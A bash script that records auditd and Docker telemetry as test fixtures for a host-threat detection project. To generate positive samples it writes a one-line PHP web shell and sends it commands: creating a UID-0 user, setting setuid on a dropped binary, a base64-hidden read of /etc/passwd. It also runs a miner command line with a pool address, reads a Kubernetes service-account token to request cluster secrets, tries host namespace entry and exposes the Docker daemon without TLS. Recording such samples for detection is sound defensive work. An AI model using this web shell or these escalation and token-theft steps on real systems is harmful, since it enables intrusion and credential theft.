#!/usr/bin/env bash
# Records real auditd and Docker telemetry into tests/data/host/recorded/ (run once, as root, on a
# Debian machine; the output is committed, so CI needs neither auditd nor Docker).
#
#   apt-get install -y auditd docker.io busybox-static dropbear-bin php-cli sudo curl
#   bash tests/data/host/record.sh
#
# What it does, in order:
#   1. starts auditd with a private configuration (ENRICHED format, its own log file) and loads the
#      rules documented in docs/host-telemetry.md (execve, and connect for IPv4/IPv6 sockets);
#   2. starts dockerd on the unix socket only, then restarts it also listening on tcp://0.0.0.0:2375
#      (both daemon command lines land in the audit log: one negative, one positive sample);
#   3. records `docker events --format '{{json .}}'` while it runs containers from a tiny local image
#      (busybox + dropbear; no registry is reachable here): a privileged container, a plain one,
#      `docker exec --privileged`, a harmless `docker exec ls`, dropbear inside a container, an image
#      tagged like a miner, a miner-like process with stratum arguments, calls toward the Kubernetes
#      API and dashboard service names from inside a container;
#   4. runs web-app-like activity as www-data: PHP's built-in server with a one-line web shell hit
#      over 127.0.0.1, `php -r` with system(), `php -v`, a program run from /tmp, sudo/useradd
#      attempts; and an administrator's own `sudo id` from a login shell (auid set);
#   5. writes `docker inspect` output for the containers, the images and the execs;
#   6. restarts auditd with log_format = RAW for a few commands, so both formats are real;
#   7. keeps only the audit events of the processes this script started (trim_audit.py), so nothing
#      else that ran on the machine ends up in the repository.
set -euo pipefail

HERE="$(cd "$(dirname "$0")" && pwd)"
OUT="$HERE/recorded"
WORK="$(mktemp -d /tmp/cloudward-record.XXXXXX)"
mkdir -p "$OUT"
chmod 755 "$WORK"

log() { printf '== %s\n' "$*" >&2; }

# -- auditd -----------------------------------------------------------------------------------
start_auditd() {  # $1 = log format (ENRICHED or RAW), $2 = log file
    mkdir -p "$WORK/auditconf-$1/plugins.d"
    cat >"$WORK/auditconf-$1/auditd.conf" <<EOF
local_events = yes
write_logs = yes
log_file = $2
log_format = $1
flush = INCREMENTAL_ASYNC
freq = 20
max_log_file = 64
num_logs = 2
max_log_file_action = ROTATE
space_left = 75
space_left_action = SYSLOG
admin_space_left = 50
admin_space_left_action = SUSPEND
disk_full_action = SUSPEND
disk_error_action = SUSPEND
end_of_event_timeout = 2
plugin_dir = $WORK/auditconf-$1/plugins.d
q_depth = 2000
EOF
    chmod 640 "$WORK/auditconf-$1/auditd.conf"
    auditd -c "$WORK/auditconf-$1"
    sleep 1
}

stop_auditd() {
    local pid
    pid="$(auditctl -s | awk '$1 == "pid" {print $2}')"
    if [ -n "$pid" ] && [ "$pid" != 0 ]; then
        kill "$pid"
        while kill -0 "$pid" 2>/dev/null; do sleep 0.2; done
    fi
}

load_rules() {
    auditctl -D >/dev/null
    auditctl -b 8192
    # every program start, 64- and 32-bit
    auditctl -a always,exit -F arch=b64 -S execve,execveat -k cw_exec
    auditctl -a always,exit -F arch=b32 -S execve -k cw_exec
    # outbound connections on IP sockets: addrlen 16 (IPv4) or 28 (IPv6); unix sockets are skipped
    auditctl -a always,exit -F arch=b64 -S connect -F a2=16 -k cw_net
    auditctl -a always,exit -F arch=b64 -S connect -F a2=28 -k cw_net
}

log "starting auditd (ENRICHED)"
stop_auditd || true
start_auditd ENRICHED "$WORK/audit-enriched.log"
load_rules

# -- dockerd ----------------------------------------------------------------------------------
stop_dockerd() {
    if [ -f /var/run/docker.pid ]; then
        local pid
        pid="$(cat /var/run/docker.pid)"
        kill "$pid" 2>/dev/null || true
        while kill -0 "$pid" 2>/dev/null; do sleep 0.2; done
    fi
}

wait_docker() {
    for _ in $(seq 50); do docker info >/dev/null 2>&1 && return 0; sleep 0.2; done
    echo "dockerd did not come up" >&2
    return 1
}

log "dockerd on the unix socket only"
stop_dockerd
dockerd -H unix:///var/run/docker.sock >"$WORK/dockerd-1.log" 2>&1 &
wait_docker
stop_dockerd

log "dockerd also on tcp://0.0.0.0:2375 without TLS"
dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375 >"$WORK/dockerd-2.log" 2>&1 &
wait_docker
docker rm -f cw-privileged cw-sysadmin cw-plain cw-ssh cw-miner >/dev/null 2>&1 || true

docker events --format '{{json .}}' >"$WORK/docker-events.jsonl" &
EVENTS_PID=$!
sleep 1

# -- a tiny local image: busybox and dropbear with their libraries ----------------------------
log "building the test image"
ROOT="$WORK/rootfs"
mkdir -p "$ROOT/bin" "$ROOT/usr/sbin" "$ROOT/etc/dropbear" "$ROOT/tmp" "$ROOT/proc" "$ROOT/sys" "$ROOT/dev" \
    "$ROOT/mnt" "$ROOT/var/run/secrets/kubernetes.io/serviceaccount"
cp /usr/bin/busybox "$ROOT/bin/"
for applet in sh ls id cat wget mount umount uname sleep nsenter chroot true cp chmod unshare; do
    ln -sf busybox "$ROOT/bin/$applet"
done
cp /usr/sbin/dropbear "$ROOT/usr/sbin/"
for lib in $(ldd /usr/sbin/dropbear | grep -o '/[^ ]*'); do
    mkdir -p "$ROOT$(dirname "$lib")"
    cp -L "$lib" "$ROOT$lib"
done
echo 'eyJhbGciOiJSUzI1NiJ9.recorded-test-token' >"$ROOT/var/run/secrets/kubernetes.io/serviceaccount/token"
echo 'root:x:0:0:root:/root:/bin/sh' >"$ROOT/etc/passwd"
tar -C "$ROOT" -c . | docker import -c 'CMD ["/bin/sh"]' - cloudward-test/base:1 >/dev/null
docker tag cloudward-test/base:1 xmrig/xmrig:6.21.0

# -- container activity -----------------------------------------------------------------------
log "containers"
# This sandbox's capability bounding set lacks CAP_MAC_OVERRIDE, so runc cannot start a fully
# privileged container ("unable to apply caps: operation not permitted"): the create, the failed
# start and the inspect data (HostConfig.Privileged) are still real. Host-impacting commands run in a
# container with CAP_SYS_ADMIN instead.
docker run -d --name cw-privileged --privileged --network none cloudward-test/base:1 sleep 600 >/dev/null 2>&1 || true
docker run -d --name cw-sysadmin --cap-add SYS_ADMIN --security-opt apparmor=unconfined --network none \
    cloudward-test/base:1 sleep 600 >/dev/null
docker run -d --name cw-plain --network none cloudward-test/base:1 sleep 600 >/dev/null
docker run -d --name cw-ssh --network none cloudward-test/base:1 \
    /usr/sbin/dropbear -F -E -R -p 2222 >/dev/null
docker run -d --name cw-miner --network none xmrig/xmrig:6.21.0 sleep 600 >/dev/null
sleep 1
docker exec cw-plain ls /                                   # benign: plain exec
docker exec --privileged cw-plain id || true               # privileged exec into a plain container
docker exec cw-sysadmin mount -t tmpfs tmpfs /mnt           # host-impacting command with CAP_SYS_ADMIN
docker exec cw-sysadmin nsenter -t 1 -m -u -n -i -p true || true  # tries the host's namespaces
docker exec cw-plain sh -c 'cp /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1' || true
docker exec cw-plain sh -c 'wget -q -T 1 -O - --header "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets' || true
docker exec cw-plain wget -q -T 1 -O - http://kubernetes-dashboard.kubernetes-dashboard.svc.cluster.local/ || true
docker exec cw-plain uname -a                               # benign
sleep 1

# -- web-app-like activity as www-data ------------------------------------------------------------
log "web app activity"
DOC="$WORK/docroot"
mkdir -p "$DOC/uploads" /tmp/.cw-drop
cat >"$DOC/index.php" <<'EOF'
<?php echo "hello\n";
EOF
cat >"$DOC/uploads/img.php" <<'EOF'
<?php if (isset($_GET['c'])) { system($_GET['c']); }
EOF
cp /bin/true /tmp/.cw-drop/kworkerd
chmod -R a+rX "$DOC" /tmp/.cw-drop
chmod 755 "$WORK"
setpriv --reuid=www-data --regid=www-data --clear-groups -- php -S 127.0.0.1:8089 -t "$DOC" \
    >"$WORK/php-server.log" 2>&1 &
PHP_PID=$!
sleep 1
curl -s 'http://127.0.0.1:8089/index.php' >/dev/null
curl -s 'http://127.0.0.1:8089/uploads/img.php?c=id%3Buname%20-a' >/dev/null
curl -s 'http://127.0.0.1:8089/uploads/img.php?c=/tmp/.cw-drop/kworkerd' >/dev/null
curl -s 'http://127.0.0.1:8089/uploads/img.php?c=sudo%20-n%20/usr/sbin/useradd%20-o%20-u%200%20svc' >/dev/null
curl -s 'http://127.0.0.1:8089/uploads/img.php?c=chmod%20u%2Bs%20/tmp/.cw-drop/kworkerd' >/dev/null
kill "$PHP_PID"
wait "$PHP_PID" 2>/dev/null || true
setpriv --reuid=www-data --regid=www-data --clear-groups -- php -v >/dev/null
setpriv --reuid=www-data --regid=www-data --clear-groups -- \
    php -r 'echo shell_exec(base64_decode("Y2F0IC9ldGMvcGFzc3dk"));' >/dev/null

log "administrator's own sudo from a login shell"
id cwadmin >/dev/null 2>&1 || useradd -m -s /bin/bash cwadmin
echo 'cwadmin ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/cwadmin
chmod 440 /etc/sudoers.d/cwadmin
CWADMIN_UID="$(id -u cwadmin)"
# a login sets the audit login uid; setpriv then drops to the administrator as login would
bash -c "echo $CWADMIN_UID > /proc/self/loginuid; exec setpriv --reuid=cwadmin --regid=cwadmin --init-groups -- bash -l -c 'sudo -n id'" >/dev/null
rm -f /etc/sudoers.d/cwadmin
sleep 1

# -- docker inspect -------------------------------------------------------------------------------
log "inspect"
kill "$EVENTS_PID"
wait "$EVENTS_PID" 2>/dev/null || true
docker inspect cw-privileged cw-sysadmin cw-plain cw-ssh cw-miner >"$OUT/docker-inspect-containers.json"
docker image inspect cloudward-test/base:1 xmrig/xmrig:6.21.0 >"$OUT/docker-inspect-images.json"
EXEC_IDS="$(grep -o '"execID":"[0-9a-f]*"' "$WORK/docker-events.jsonl" | cut -d'"' -f4 | sort -u)"
{
    echo '['
    first=1
    for id in $EXEC_IDS; do
        body="$(curl -s --unix-socket /var/run/docker.sock "http://localhost/exec/$id/json" || true)"
        case "$body" in '{'*) ;; *) continue ;; esac
        [ $first = 1 ] || echo ','
        first=0
        printf '%s\n' "$body"
    done
    echo ']'
} >"$OUT/docker-inspect-execs.json"
cp "$WORK/docker-events.jsonl" "$OUT/docker-events.jsonl"

# -- a short RAW-format phase ---------------------------------------------------------------------
log "auditd in RAW format"
sleep 3
stop_auditd
start_auditd RAW "$WORK/audit-raw.log"
load_rules
docker exec cw-ssh id >/dev/null
setpriv --reuid=www-data --regid=www-data --clear-groups -- php -r 'system("uname -a; /tmp/.cw-drop/kworkerd");' >/dev/null
/bin/echo "arg with spaces" 'quote"inside' >/dev/null
sleep 3
stop_auditd

# -- clean up ---------------------------------------------------------------------------------
log "cleaning up"
docker rm -f cw-privileged cw-sysadmin cw-plain cw-ssh cw-miner >/dev/null
stop_dockerd
rm -rf /tmp/.cw-drop
auditctl -D >/dev/null || true

python3 "$HERE/trim_audit.py" --root-pid $$ "$WORK/audit-enriched.log" >"$OUT/audit-enriched.log"
python3 "$HERE/trim_audit.py" --root-pid $$ "$WORK/audit-raw.log" >"$OUT/audit-raw.log"
sed -i "s#$WORK#/tmp/cloudward-record#g" "$OUT"/*.log "$OUT"/*.json "$OUT"/*.jsonl
log "done: $(wc -l "$OUT"/* | tail -1)"
rm -rf "$WORK"
